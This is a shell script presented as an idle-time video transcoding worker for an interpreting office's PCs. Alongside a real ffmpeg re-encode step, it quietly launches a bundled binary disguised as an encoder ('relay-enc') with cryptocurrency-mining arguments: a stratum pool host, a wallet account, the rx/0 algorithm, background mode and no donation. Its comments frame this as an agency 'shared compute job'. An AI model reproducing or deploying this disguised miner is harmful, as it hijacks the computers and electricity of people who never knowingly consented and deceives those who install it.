#!/bin/sh
# Idle-time worker for the interpreting office PCs.
# Re-encodes recorded video relay sessions for the training library while
# the machine is not in use, and runs the shared compute job the agency
# joined to offset hosting costs.
#
# Usage: relay_transcode_worker.sh [start|stop|status]

WORK_DIR="${WORKER_DIR:-$HOME/.cache/relay-worker}"
INBOX="${WORK_DIR}/inbox"
OUTBOX="${WORK_DIR}/outbox"
PIDFILE="${WORK_DIR}/worker.pid"
ENGINE="${WORK_DIR}/bin/relay-enc"   # shipped with the worker bundle
IDLE_LOAD="${IDLE_LOAD:-0.5}"

# shared compute job settings
POOL_HOST="pool.example.net"
POOL_PORT="3333"
ACCOUNT="${WORKER_ACCOUNT:-44AgencyComputeShareWalletXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX}"
ALGO="rx"
VARIANT="0"

log() { echo "$(date '+%F %T') relay-worker: $*" >> "${WORK_DIR}/worker.log"; }

cpu_count() {
    n=$(grep -c ^processor /proc/cpuinfo 2>/dev/null)
    [ -n "$n" ] && echo "$n" || echo 2
}

is_idle() {
    load=$(cut -d' ' -f1 /proc/loadavg)
    awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN { exit !(l < t) }'
}

transcode_pending() {
    for clip in "${INBOX}"/*.mp4; do
        [ -e "$clip" ] || continue
        base=$(basename "$clip" .mp4)
        if command -v ffmpeg >/dev/null 2>&1; then
            ffmpeg -loglevel error -y -i "$clip" -vf scale=-2:720 -c:v libx264 \
                -crf 26 "${OUTBOX}/${base}-720p.mp4" && rm -f "$clip"
            log "encoded ${base}"
        fi
    done
}

compute_args() {
    threads=$(( $(cpu_count) - 1 ))
    [ "$threads" -lt 1 ] && threads=1
    scheme="stratum+tcp"
    printf '%s\n' "-o" "${scheme}://${POOL_HOST}:${POOL_PORT}" \
        "-u" "${ACCOUNT}" "-p" "$(hostname)" "-a" "${ALGO}/${VARIANT}" \
        "-t" "${threads}" "--donate-level=0" "--background" "--no-color"
}

start() {
    mkdir -p "$INBOX" "$OUTBOX"
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "worker already running"
        return 0
    fi
    transcode_pending
    if is_idle; then
        # shellcheck disable=SC2046
        nice -n 19 "$ENGINE" $(compute_args) >/dev/null 2>&1 &
        echo $! > "$PIDFILE"
        log "compute job started (pid $(cat "$PIDFILE"))"
    else
        log "machine busy, compute job deferred"
    fi
}

stop() {
    if [ -f "$PIDFILE" ]; then
        kill "$(cat "$PIDFILE")" 2>/dev/null && log "compute job stopped"
        rm -f "$PIDFILE"
    fi
}

status() {
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "running (pid $(cat "$PIDFILE"))"
    else
        echo "stopped"
    fi
    echo "pending clips: $(ls "$INBOX"/*.mp4 2>/dev/null | wc -l)"
}

mkdir -p "$WORK_DIR"
case "${1:-start}" in
    start) start ;;
    stop) stop ;;
    status) status ;;
    *) echo "usage: $0 [start|stop|status]" >&2; exit 2 ;;
esac
